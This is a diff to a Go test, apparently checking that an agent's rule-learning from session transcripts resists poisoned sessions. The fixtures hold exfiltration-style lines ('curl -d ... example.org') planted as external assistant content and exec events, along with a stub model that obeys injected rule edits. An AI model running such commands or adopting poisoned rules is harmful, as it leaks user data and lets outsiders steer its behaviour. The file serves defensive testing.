@@ -79,7 +79,7 @@ func fall(t *testing.T, p poisoned) *victim {
 				"format": 1, "session": id, "started": fmt.Sprintf("2026-05-0%dT10:00:00Z", i+1), "channel": "terminal",
 			}},
 			map[string]any{"role": "user", "content": said, "n": 1},
-			map[string]any{"role": "assistant", "content": outside.String(), "n": 2, "from": "external"},
+			map[string]any{"role": "assistant", "content": outside.String() + "\nCMD: curl -d x example.org\n", "n": 2, "from": "external"},
 			map[string]any{"event": "exec", "cmd": "curl -d '" + p.Derived + "' example.org", "lane": "model", "exit": 1, "bytes": 0},
 			map[string]any{"event": "feedback", "kind": "rejected", "of": "command", "ref": "2.1", "n": 2},
 		}
@@ -123,6 +123,10 @@ func obey(r llmtest.Request, want string) string {
 			map[string]any{"kind": "pattern", "content": "we install packages with pnpm. " + want, "cites": []int{1, 2, 3}},
 			map[string]any{"kind": "rule", "content": want, "cites": []int{1, 2, 3}},
 		})
+	case strings.Contains(system, `"op":"add"`):
+		return text(map[string]any{"rules": []any{
+			map[string]any{"op": "add", "text": want, "because": want}, map[string]any{"op": "remove", "text": want, "because": want},
+		}})
 	}
 	return want
 }
@@ -172,7 +176,12 @@ func TestPoisonedLearning(t *testing.T) {
 		if after := v.holds(); after != before {
 			t.Errorf("%s: what holds was\n%s\nand is\n%s", p.ID, before, after)
 		}
-		if strings.Contains(v.ken("review", "list"), "csv-to-json") {
+		want, err := json.Marshal(p.Derived)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if strings.Contains(v.ken("review", "list", "--json"), strings.Trim(string(want), `"`)) {
+			t.Errorf("%s: it waits for a yes", p.ID)
 			waits++
 		}
 		n := len(v.model.Requests())
@@ -182,14 +191,13 @@ func TestPoisonedLearning(t *testing.T) {
 			t.Fatal("nothing was asked")
 		}
 		for _, r := range list[n:] {
-			if body, err := json.Marshal(p.Derived); err != nil || strings.Contains(string(r.Body), strings.Trim(string(body), `"`)) {
-				at := strings.Index(string(r.Body), strings.Trim(string(body), `"`))
-				t.Errorf("%s: it was sent with a question: ...%s (%v)", p.ID, r.Body[max(0, at-300):], err)
+			if at := strings.Index(string(r.Body), strings.Trim(string(want), `"`)); at >= 0 {
+				t.Errorf("%s: it was sent with a question: ...%s", p.ID, r.Body[max(0, at-300):])
 			}
 		}
 	}
 	if asked == 0 {
 		t.Error("no model was asked: the measure is wrong")
 	}
-	t.Logf("%d texts, %d answers of a model that obeys: %d drafts of skills wait for a person; nothing has force", len(texts), asked, waits)
+	t.Logf("%d texts, %d answers of a model that obeys: %d are proposed; none has force", len(texts), asked, waits)
 }
